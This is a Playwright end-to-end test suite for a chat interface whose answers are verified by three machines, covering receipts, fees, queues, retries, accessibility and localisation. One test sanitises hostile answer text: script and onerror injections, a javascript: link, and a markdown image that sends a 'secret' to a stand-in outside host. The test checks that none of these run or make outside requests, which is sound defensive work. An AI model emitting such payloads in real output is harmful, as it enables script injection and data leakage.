import { readFile } from "node:fs/promises";
import { expect, type Page, test } from "@playwright/test";
import { courtReceiptOf, evictedReceiptOf } from "../src/lib/receipt.fixture";
import { fitsFingers, fitsItsWidth, isAccessible, looksAt, schemes, shot } from "./looks";
import { estimateOf, Stand } from "./stand";

const sizes = [
  { name: "390", width: 390, height: 844 },
  { name: "820", width: 820, height: 1180 },
  { name: "1440", width: 1440, height: 900 },
];

const long = `Helium asks **three machines** at once, drawn by lot from those with the same kind of card.

1. Each works out the answer and *commits* to it: it publishes a fingerprint, which shows nothing.
2. When all three have committed, each *opens* its result.
3. Equal results are paid; one that differs loses its stake.

\`\`\`js
const digest = sha256(salt + response); // what is compared on chain
if (digest === revealed) console.log("same bytes, and a line that is long enough to need scrolling sideways on a phone");
\`\`\`

| round | first | second | third |
| --- | --- | --- | --- |
| pay | 20 CNX | 18 CNX | 12 CNX |

So nobody has to be trusted: \`they must agree\`.`;

const evicted = {
  code: "evicted",
  title: "The task lost its place in the queue",
  detail: "The queue is full, and a task that pays more took its place. Nothing was paid: all of 10 CNX came back.",
  action: "Offer a higher fee, or send the request again when fewer tasks wait.",
};

let stand: Stand;
test.beforeEach(async () => {
  stand = await Stand.start();
});
test.afterEach(() => stand.stop());

async function ask(page: Page, text = "How is an answer checked?") {
  await page.getByTestId("prompt").fill(text);
  await page.getByTestId("send").click();
}

const badge = (page: Page) => page.getByTestId("badge").last();

test("an answer turns verified, and its receipt shows three machines that this browser checked", async ({ page }) => {
  const errors: string[] = [];
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  page.on("pageerror", (e) => errors.push(String(e)));
  stand.script = { text: long };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await expect(page.getByTestId("answer-text")).toContainText("they must agree");
  await badge(page).click();
  await expect(page.getByTestId("receipt-node")).toHaveCount(3);
  await expect(page.getByTestId("browser-check").locator("li")).toHaveCount(3);
  await expect(page.getByTestId("browser-check")).toContainText("The digest is the SHA-256");
  await expect(page.getByTestId("browser-check")).toContainText("The text on your screen is the text");
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download the receipt" }).click();
  expect((await download).suggestedFilename()).toBe("helium-receipt-128.json");
  expect(errors).toEqual([]);
});

for (const [holdAt, words] of [
  ["created", "task created"],
  ["queued", "2nd in the queue"],
  ["drawn", "three machines drawn"],
  ["running", "machines are working"],
  ["committed2", "2 of 3 machines committed"],
  ["revealed", "3 of 3 machines opened"],
] as const) {
  test(`the badge is provisional at ${holdAt}, and Escape stops reading`, async ({ page }) => {
    stand.script = { text: "Some words.", holdAt };
    await page.goto(stand.url);
    await ask(page);
    await expect(badge(page)).toContainText(words);
    await expect(badge(page)).toHaveAttribute("data-state", "provisional");
    await page.keyboard.press("Escape");
    await expect(badge(page)).toHaveAttribute("data-state", "stopped");
  });
}

for (const [name, script, words] of [
  [
    "no budget",
    { refuse: { status: 402, message: "this request costs 50 CNX and 0 CNX of the budget is left" } },
    "The budget for today is used up",
  ],
  ["full", { refuse: { status: 503, message: "", retryAfter: 90 } }, /Wait (90|8\d) seconds, then/],
  ["too fast", { refuse: { status: 429, message: "", retryAfter: 1 } }, "You can try again now"],
  [
    "gone model",
    { refuse: { status: 404, message: "no node runs it", code: "model_not_found" } },
    "This model can't be run now",
  ],
  [
    "refused",
    { refuse: { status: 400, message: "temperature must be between 0 and 2" } },
    "temperature must be between 0 and 2",
  ],
] as const) {
  test(`${name}: the reason and one action`, async ({ page }) => {
    stand.script = script;
    await page.goto(stand.url);
    await ask(page);
    await expect(page.getByRole("alert")).toContainText(words);
    stand.script = { text: "Now it works." };
    await page.getByRole("alert").getByRole("button").click();
    await expect(badge(page)).toHaveAttribute("data-state", "verified");
    await expect(page.getByRole("alert")).toHaveCount(0);
  });
}

test("a disputed answer says so and can be asked again", async ({ page }) => {
  stand.script = { text: "One of three.", dispute: true };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "disputed");
  await expect(page.getByRole("alert")).toContainText("The nodes did not agree");
  await isAccessible(page);
});

test("what an answer costs and when it starts is said before it is asked for", async ({ page }) => {
  const line = page.getByTestId("price");
  stand.script = { estimate: { start: "now" } };
  await page.goto(stand.url);
  await expect(line).toHaveText("10 CNX an answerstarts at once");
  await expect(line).toHaveAttribute("title", /10 CNX for 40 nominal seconds, which is 0.25 CNX a second/);
  for (const [estimate, mood, words] of [
    [{ start: "queued", position: 3, wait_seconds: 40 }, "wait", "3rd in the queue, about 40 sec"],
    [{ start: "queued", position: 22, wait_seconds: 200 }, "wait", "22nd in the queue, about 4 min"],
    [{ start: "full" }, "bad", "the queue is full now"],
    [{ start: "never" }, "bad", "no three machines can run it now"],
    [
      { allowed: false, max_fee_of: "request", max_fee: estimateOf("2.5").fee },
      "bad",
      "more than your limit of 2.5 CNX",
    ],
    [
      { allowed: false, max_fee_of: "bridge", max_fee: estimateOf("8").fee },
      "bad",
      "more than this page's limit of 8 CNX",
    ],
  ] as const) {
    stand.script = { estimate };
    await page.reload();
    await expect(line).toContainText(words);
    await expect(line).toHaveAttribute("data-mood", mood);
  }
  stand.script = { estimate: null };
  await page.reload();
  await expect(page.getByText("Free for you")).toBeVisible();
  await expect(line).toHaveCount(0);
});

test("a limit is sent with the question, and over it nothing is asked", async ({ page }) => {
  stand.script = { text: "Cheap enough." };
  await page.goto(stand.url);
  const limit = page.getByLabel("Most an answer may cost");
  await page.getByRole("button", { name: "Settings" }).click();
  await limit.fill("2,");
  await limit.pressSequentially("5");
  await expect(limit).toHaveValue("2,5");
  await page.keyboard.press("Escape");
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  expect(JSON.parse(stand.asked).helium).toEqual({ max_fee: "2.5" });

  stand.script = { refuse: { status: 402, message: "costs 10 CNX", code: "price_cap", param: "helium.max_fee" } };
  await ask(page, "And now?");
  await expect(page.getByRole("alert")).toContainText("This answer costs more than your limit");
  await expect(page.getByRole("alert")).toContainText("Nothing was sent. Raise the limit in the settings");

  await page.getByRole("button", { name: "Settings" }).click();
  await expect(limit).toHaveValue("2.5");
  await page.getByRole("button", { name: "Back to the defaults" }).click();
  await expect(limit).toHaveValue("");
  await limit.fill("cheap");
  await expect(page.getByText("This is no amount yet, so nothing is limited")).toBeVisible();
  await isAccessible(page);
  await limit.blur();
  await expect(limit).toHaveValue("");
});

test("who waits sees its place and for how long", async ({ page }) => {
  stand.script = { holdAt: "queued", place: { position: 3, wait_seconds: 40 } };
  await page.goto(stand.url);
  await ask(page);
  await expect(page.getByTestId("in-line")).toContainText("3rd in the queue, about 40 sec");
  await expect(page.getByTestId("in-line")).toContainText("the whole fee comes back");
  await expect(badge(page)).toContainText("3rd in the queue");
  await isAccessible(page);
});

test("who loses its place is told that nothing was paid, and can ask again", async ({ page }) => {
  stand.script = {
    receipt: evictedReceiptOf,
    lose: evicted,
  };
  await page.goto(stand.url);
  await ask(page);
  await expect(page.getByRole("alert")).toContainText("Nothing was paid: all of 10 CNX came back.");
  await expect(badge(page)).toHaveAttribute("data-state", "failed");
  await badge(page).click();
  await expect(page.getByTestId("receipt")).toContainText("came back. Ask again when fewer tasks wait.");
  await expect(page.getByTestId("receipt")).toContainText("None was drawn for this question");
  await expect(page.getByTestId("settlement")).toContainText("Returned10 CNX");
  await expect(page.getByTestId("receipt-node")).toHaveCount(0);
  await isAccessible(page);
  await page.keyboard.press("Escape");
  stand.script = { text: "Now it works." };
  await page.getByRole("alert").getByRole("button").click();
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
});

test("a fast settlement is one transaction; the court's are many", async ({ page }) => {
  stand.script = { text: "Fast." };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await badge(page).click();
  const settlement = page.getByTestId("settlement");
  await expect(settlement).toContainText("One transaction brought what all three machines had signed");
  await expect(settlement).toContainText("Sent bythis page's gateway");
  await expect(settlement).toContainText("To the machines9.9 CNX");
  await expect(settlement).toContainText("To who sent the transactions0.1 CNX");
  await expect(settlement).toContainText("Fee10 CNX");
  await expect(settlement).not.toContainText("pool");
  const first = page.getByTestId("receipt-node").first();
  await expect(first).toContainText("Paid3.96 CNX");
  await expect(first).toContainText("Commitment");
  await expect(page.getByText("never")).toHaveCount(0);
  await page.keyboard.press("Escape");

  stand.script = { text: "Slow.", receipt: courtReceiptOf };
  await ask(page, "And with one of them silent?");
  await expect(badge(page)).toContainText("two of three machines agree");
  await badge(page).click();
  await expect(settlement).toContainText("In court: a signature was missing");
  await expect(settlement).toContainText("Sent byMachine 2");
  await expect(settlement).toContainText("Unclaimed, to the network's pool2.376 CNX");
  await expect(page.getByTestId("receipt-node").last()).toContainText("SilentCommittednever");
});

test("a cut connection is not a lost answer", async ({ page }) => {
  stand.script = { text: "Half of a sentence", cut: true };
  await page.goto(stand.url);
  await ask(page);
  await expect(page.getByText("The connection broke, the machines go on")).toBeVisible();
  await expect(badge(page)).toHaveAttribute("data-state", "provisional");
});

test("a wrong stream is replaced by what was agreed on", async ({ page }) => {
  stand.script = { text: "The sky is blue.", wrong: "The sky is green." };
  await page.goto(stand.url);
  await ask(page);
  await expect(page.getByTestId("answer-text")).toHaveText("The sky is blue.");
  await expect(page.getByText("What you saw while it was written differed")).toBeVisible();
  await expect(page.getByText("The sky is green.")).toBeHidden();
  await page.getByText("Show what was replaced").click();
  await expect(page.getByText("The sky is green.")).toBeVisible();
  await isAccessible(page);
});

const silent = {
  code: "nodes_silent",
  title: "The nodes did not answer in time",
  detail: "Too few of the three finished. Nothing was paid but the cost of closing the task.",
};

test("a question that machines fail at is sent again, which is seen with its reason, and each attempt has a receipt", async ({
  page,
}) => {
  stand.script = { text: "The sky is blue.", retry: { text: "The sky is", reason: silent }, holdAt: "drawn" };
  await page.goto(stand.url);
  await ask(page);
  const again = page.getByTestId("sent-again");
  await expect(again).toContainText(
    "The nodes did not answer in time, so the question was sent again. This is attempt 2.",
  );
  await expect(page.getByText("The question was sent again.", { exact: true })).toBeAttached();
  await expect(page.getByTestId("answer-text")).toHaveText("The sky is");
  await expect(badge(page)).toContainText("three machines drawn");
  await isAccessible(page);
  await page.keyboard.press("Escape");

  stand.script = { ...stand.script, holdAt: undefined };
  await ask(page, "And now?");
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await expect(page.getByTestId("answer-text").last()).toHaveText("The sky is blue.");
  await expect(page.getByText("10.10 CNX", { exact: false }).last()).toBeVisible();
  await again.last().getByRole("button", { name: "Receipt of attempt 1" }).click();
  const receipt = page.getByTestId("receipt");
  await expect(receipt).toContainText("Too few of the three finished.");
  await shot(page, "retry-receipt");
  await expect(page.getByTestId("settlement")).toContainText("Returned9.9 CNX");
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download the receipt" }).click();
  expect((await download).suggestedFilename()).toBe("helium-receipt-127.json");
  await isAccessible(page);
  await page.getByRole("button", { name: "Attempt 2", exact: true }).click();
  await expect(receipt).toContainText("these were equal");
  await expect(page.getByRole("button", { name: "Attempt 2", exact: true })).toHaveAttribute("aria-pressed", "true");
  await page.keyboard.press("Escape");
  await expect(again.last().getByRole("button")).toBeFocused();
});

test("other words of another attempt replace what was shown", async ({ page }) => {
  stand.script = { text: "The sky is blue.", retry: { text: "The sea", reason: silent } };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await expect(page.getByTestId("answer-text")).toHaveText("The sky is blue.");
  await expect(page.getByText("other machines wrote another text than the first had begun")).toBeVisible();
  await page.getByText("Show what was replaced").click();
  await expect(page.getByText("The sea", { exact: true })).toBeVisible();
  await shot(page, "retry-replaced");
});

test("what is stopped while it waits is taken back; what machines work on goes on and can be fetched", async ({
  page,
}) => {
  stand.script = { holdAt: "queued" };
  await page.goto(stand.url);
  await ask(page);
  await page.getByTestId("stop").click();
  await expect(badge(page)).toHaveText("Stopped · taken back from the queue");
  await expect(page.getByRole("button", { name: "Get the whole answer" })).toHaveCount(0);
  await expect(page.getByText("1.00 CNX", { exact: true })).toBeVisible();
  await badge(page).click();
  await expect(page.getByTestId("receipt")).toContainText("all but the least fee returns");
  await expect(page.getByTestId("settlement")).toContainText("Returned9 CNX");
  await page.keyboard.press("Escape");

  stand.script = { text: "Half of", holdAt: "running" };
  await ask(page, "And now?");
  await expect(page.getByTestId("answer-text").last()).toHaveText("Half of");
  await page.getByTestId("stop").click();
  await expect(badge(page)).toHaveText("Stopped · not verified");
  await expect(page.getByRole("button", { name: "Get the whole answer" })).toBeVisible();
});

test("code and answers are copied as they are", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  stand.script = { text: long };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  const copied = () => page.evaluate(() => navigator.clipboard.readText());
  await page.getByRole("button", { name: "Copy code" }).click();
  await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await copied()).toMatch(/^const digest = sha256\(salt \+ response\);.*\nif \(digest === revealed\).*;$/);
  await page.getByRole("button", { name: "Copy answer" }).click();
  await expect.poll(copied).toBe(long);
});

test("a conversation is found by what was said in it, and saved with its receipts", async ({ page }) => {
  await page.goto(stand.url);
  for (const [question, text] of [
    ["First question", "Of balloons and helium."],
    ["Second question", "Of boats."],
  ] as const) {
    stand.script = { text };
    await page.keyboard.press("Control+k");
    await expect(page.getByRole("heading", { name: "What would you like to know?" })).toBeVisible();
    await expect(page.getByTestId("prompt")).toBeFocused();
    await page.keyboard.type(question);
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("with a second line");
    await page.keyboard.press("Enter");
    await expect(badge(page)).toHaveAttribute("data-state", "verified");
  }
  const list = page.getByRole("navigation", { name: "Conversations" });
  const rows = list.getByRole("listitem");
  await page.getByLabel("Search conversations").fill("HELIUM balloons");
  await expect(rows).toHaveCount(1);
  await expect(rows).toContainText("First question");
  await page.getByLabel("Search conversations").fill("dragons");
  await expect(list).toContainText("Nothing found");
  await page.getByLabel("Search conversations").fill("");
  await expect(rows).toHaveCount(2);

  await list.getByRole("button", { name: "More about First question" }).press("Enter");
  const download = page.waitForEvent("download");
  await page.getByRole("menuitem", { name: "Save as a file" }).press("Enter");
  const file = JSON.parse(await readFile(await (await download).path(), "utf8"));
  expect(file.title).toBe("First question");
  expect(file.messages[0].text).toBe("First question\nwith a second line");
  expect(file.messages[1].answer).toMatchObject({ text: "Of balloons and helium.", receipt: { task_id: 128 } });
});

const everything = `# A title

| name | first | second | third | fourth | a longer heading | sixth |
| --- | --- | ---: | --- | --- | --- | --- |
| a rather long name | 20 CNX | 18 CNX | 12 CNX | Donaudampfschifffahrtselektrizitätenhauptbetriebswerk | x | y |

مرحبا بالعالم. هذه إجابة تحققت منها ثلاث آلات.

- قائمة أولى
- قائمة ثانية

- [x] done
- [ ] open

你好，世界。${"DonaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftX".repeat(2)}`;

for (const scheme of schemes) {
  test(`any text fits a phone, from the side that its language is written from: ${scheme}`, async ({ page }) => {
    await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
    await page.setViewportSize({ width: 390, height: 844 });
    stand.script = { text: everything };
    await page.goto(stand.url);
    await ask(page, "اكتب لي شيئا بالعربية");
    await expect(badge(page)).toHaveAttribute("data-state", "verified");
    const text = page.getByTestId("answer-text");
    // A table scrolls sideways before its words are broken.
    const lines = await text.getByRole("columnheader", { name: "second" }).evaluate((e) => {
      const words = document.createRange();
      words.selectNodeContents(e);
      return words.getClientRects().length;
    });
    expect(lines).toBe(1);
    await expect(text.getByRole("list").first()).toHaveCSS("direction", "rtl");
    await expect(page.getByText("اكتب لي شيئا بالعربية").last()).toHaveCSS("direction", "rtl");
    await fitsItsWidth(page);
    await isAccessible(page);
    // The end stays in sight when a phone's keyboard takes half of the screen.
    await page.setViewportSize({ width: 390, height: 500 });
    await expect(badge(page)).toBeInViewport();
    await shot(page, `everything-${scheme}-390`);
  });
}

test("the bridge being down is a state with one action, and it comes back", async ({ page }) => {
  stand.script = { down: true };
  await page.goto(stand.url);
  await expect(page.getByText("The network's gateway doesn't answer")).toBeVisible();
  await shot(page, "down-light-desk");
  stand.script = {};
  await page.getByRole("button", { name: "Try again" }).click();
  await expect(page.getByText("The network's gateway doesn't answer")).toHaveCount(0);
});

test("no model is a state too", async ({ page }) => {
  stand.script = { models: [] };
  await page.goto(stand.url);
  await expect(page.getByText("No model can be run now")).toBeVisible();
  await page.getByTestId("prompt").fill("Hello?");
  await expect(page.getByTestId("send")).toBeDisabled();
});

test("conversations outlive the page, and can be renamed, searched and deleted with a way back", async ({ page }) => {
  stand.script = { text: "Fine." };
  await page.goto(stand.url);
  await ask(page, "First question");
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await page.keyboard.press("Control+k");
  await expect(page.getByRole("heading", { name: "What would you like to know?" })).toBeVisible();
  await ask(page, "Second question");
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  await page.waitForTimeout(50);
  await page.reload();
  const list = page.getByRole("navigation", { name: "Conversations" });
  await expect(list.getByRole("button", { name: "First question", exact: true })).toBeVisible();
  await expect(badge(page)).toHaveAttribute("data-state", "verified");

  await list.getByRole("button", { name: "More about First question" }).press("Enter");
  await page.getByRole("menuitem", { name: "Rename" }).click();
  await page.getByLabel("Name of the conversation").fill("Renamed");
  await page.keyboard.press("Enter");
  await expect(list.getByRole("button", { name: "Renamed", exact: true })).toBeVisible();

  await list.getByRole("button", { name: "More about Second question" }).press("Enter");
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await expect(list.getByRole("button", { name: "Second question", exact: true })).toHaveCount(0);
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(list.getByRole("button", { name: "Second question", exact: true })).toBeVisible();
});

test("a question can be changed, and an answer asked for again", async ({ page }) => {
  stand.script = { text: "One." };
  await page.goto(stand.url);
  await ask(page, "Before");
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  stand.script = { text: "Two." };
  await page.getByRole("button", { name: "Edit question" }).focus();
  await page.keyboard.press("Enter");
  await page.getByLabel("Change your question").fill("After");
  await page.keyboard.press("Enter");
  await expect(page.getByTestId("answer-text")).toHaveText("Two.");
  await expect(page.getByRole("listitem").filter({ hasText: "You asked: Before" })).toHaveCount(0);
  stand.script = { text: "Three." };
  await page.getByRole("button", { name: "Answer again" }).click();
  await expect(page.getByTestId("answer-text")).toHaveText("Three.");
});

test("nothing in an answer is run, and no picture tells a stranger", async ({ page }) => {
  stand.script = {
    text: '<img src=x onerror="document.title=1"><script>document.title=2</script> ![secret](https://stranger.invalid/?q=secret) [click](javascript:document.title=3)',
  };
  const asked: string[] = [];
  page.on("request", (r) => asked.push(r.url()));
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
  expect(asked.filter((u) => !u.startsWith(stand.url))).toEqual([]);
  await expect(page.getByTestId("answer-text").locator("img,script")).toHaveCount(0);
  await expect(page.getByTestId("answer-text").locator('a[href^="javascript"]')).toHaveCount(0);
});

test("Escape closes the receipt first, and stops the answer only after that", async ({ page }) => {
  stand.script = { text: "Some words.", holdAt: "committed2" };
  await page.goto(stand.url);
  await ask(page);
  await expect(badge(page)).toContainText("2 of 3");
  await badge(page).click();
  await expect(page.getByText("Committed", { exact: true })).toHaveCount(3); // two machines, and the step
  await page.keyboard.press("Escape");
  await expect(page.getByTestId("receipt")).toHaveCount(0);
  await expect(badge(page)).toHaveAttribute("data-state", "provisional");
  await expect(badge(page)).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(badge(page)).toHaveAttribute("data-state", "stopped");
});

test.describe("on a phone that is touched", () => {
  test.use({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 844 } });

  test("everything can be hit with a finger", async ({ page }) => {
    stand.script = { text: long };
    await page.goto(stand.url);
    await expect(page.getByText("demo-1")).toBeAttached();
    await fitsFingers(page);
    await ask(page);
    await expect(badge(page)).toHaveAttribute("data-state", "verified");
    await fitsFingers(page);
    await shot(page, "touch-verified");
    await badge(page).tap();
    await expect(page.getByTestId("browser-check")).toBeVisible();
    await fitsFingers(page);
    await shot(page, "touch-receipt");
    await page.getByRole("button", { name: "Close" }).tap();
    await page.getByRole("button", { name: "Conversations" }).tap();
    await expect(page.getByRole("dialog", { name: "Conversations" })).toBeVisible();
    await fitsFingers(page);
    await isAccessible(page);
    await shot(page, "touch-menu");
  });
});

test("a page that is older than its bridge still shows answers", async ({ page }) => {
  stand.script = { text: "Plain **words**.", missing: /markdown/ };
  await page.goto(stand.url);
  await ask(page);
  await expect(page.getByTestId("answer-text")).toHaveText("Plain **words**.");
  await expect(badge(page)).toHaveAttribute("data-state", "verified");
});

for (const { scheme, size } of looksAt(sizes)) {
  test(`waits and settles right: ${size.name}, ${scheme}`, async ({ page }) => {
    await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
    await page.setViewportSize(size);
    const name = `${scheme}-${size.name}`;
    stand.script = {
      text: "Slow, and right.",
      receipt: courtReceiptOf,
      estimate: { start: "queued", position: 3, wait_seconds: 40 },
    };
    await page.goto(stand.url);
    await ask(page);
    await expect(badge(page)).toContainText("two of three");
    await badge(page).click();
    await expect(page.getByTestId("browser-check")).toBeVisible();
    await shot(page, `court-${name}`);
    await isAccessible(page);
    await page.getByText("Details", { exact: true }).scrollIntoViewIfNeeded();
    await shot(page, `court-settlement-${name}`);
    await page.keyboard.press("Escape");

    stand.script = { ...stand.script, holdAt: "queued", place: { position: 3, wait_seconds: 40 } };
    await ask(page, "Is there a line?");
    await expect(page.getByTestId("in-line")).toBeVisible();
    await shot(page, `queue-${name}`);
    await isAccessible(page);
    await fitsItsWidth(page);
    await page.keyboard.press("Escape");

    stand.script = { receipt: evictedReceiptOf, lose: evicted };
    await ask(page, "And if it gets longer?");
    await expect(page.getByRole("alert")).toContainText("Nothing was paid");
    await shot(page, `evicted-${name}`);
    await isAccessible(page);
    await badge(page).click();
    await shot(page, `evicted-receipt-${name}`);
    await page.keyboard.press("Escape");

    stand.script = {
      estimate: { allowed: false, max_fee_of: "request", max_fee: estimateOf("2.5").fee },
      refuse: { status: 402, message: "", code: "price_cap", param: "helium.max_fee" },
    };
    await page.getByRole("button", { name: "Settings" }).click();
    await page.getByLabel("Most an answer may cost").fill("2.5");
    await page.keyboard.press("Escape");
    await ask(page, "And for less?");
    await expect(page.getByRole("alert").last()).toContainText("more than your limit");
    await expect(page.getByTestId("price")).toContainText("your limit");
    await shot(page, `limit-${name}`);
    await isAccessible(page);
  });

  test(`looks right: ${size.name}, ${scheme}`, async ({ page }) => {
    await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
    await page.setViewportSize(size);
    const name = `${scheme}-${size.name}`;
    stand.script = { text: long };
    await page.goto(stand.url);
    await expect(page.getByText("demo-1")).toBeAttached();
    await shot(page, `welcome-${name}`);
    await isAccessible(page);
    await ask(page);
    await expect(badge(page)).toHaveAttribute("data-state", "verified");
    await expect(page.getByTestId("answer-text").getByRole("table")).toBeVisible();
    await shot(page, `verified-${name}`);
    await isAccessible(page);
    await fitsItsWidth(page);
    await badge(page).click();
    await expect(page.getByTestId("browser-check")).toBeVisible();
    await shot(page, `receipt-${name}`);
    await isAccessible(page);
    await page.keyboard.press("Escape");
    stand.script = {
      text: "Two machines have committed to their results by now, and the third",
      holdAt: "committed2",
    };
    await ask(page, "And what happens while they work?");
    await expect(badge(page)).toContainText("2 of 3");
    await shot(page, `running-${name}`);
    await isAccessible(page);
    await page.getByRole("button", { name: "Settings" }).click();
    await expect(page.getByText("Longest answer")).toBeVisible();
    await shot(page, `settings-${name}`);
    await isAccessible(page);
  });
}

test.describe("in another language", () => {
  test.use({ locale: "de-DE" });

  test("the page speaks the browser's language until another is chosen, and keeps that", async ({ page }) => {
    stand.script = { text: long };
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(stand.url);
    const lang = (tag: string) => expect(page.locator("html")).toHaveAttribute("lang", tag);
    await lang("de");
    await expect(page).toHaveTitle("Helium-Chat");
    await expect(page.getByTestId("prompt")).toHaveAttribute("placeholder", "Frag irgendetwas");
    await ask(page, "Wie wird eine Antwort geprüft?");
    await expect(badge(page)).toHaveText(/Geprüft · drei Computer stimmen überein/);
    for (const colorScheme of schemes) {
      await page.emulateMedia({ colorScheme });
      await isAccessible(page);
    }
    await badge(page).click();
    await expect(page.getByTestId("browser-check")).toContainText("Der Prüfwert ist der SHA-256");
    await isAccessible(page);
    await shot(page, "chat-receipt-de");
    await page.keyboard.press("Escape");

    await page.getByLabel("Sprache").selectOption("zh");
    await lang("zh-Hans");
    await expect(badge(page)).toHaveText(/已验证 · 三台电脑一致/);
    await page.setViewportSize({ width: 390, height: 844 });
    await fitsItsWidth(page);
    await isAccessible(page);
    await shot(page, "chat-phone-zh");
    await page.reload();
    await lang("zh-Hans");
    await page.getByRole("button", { name: "对话", exact: true }).click();
    await page.getByRole("dialog").getByLabel("语言").selectOption("");
    await lang("de");
  });
});
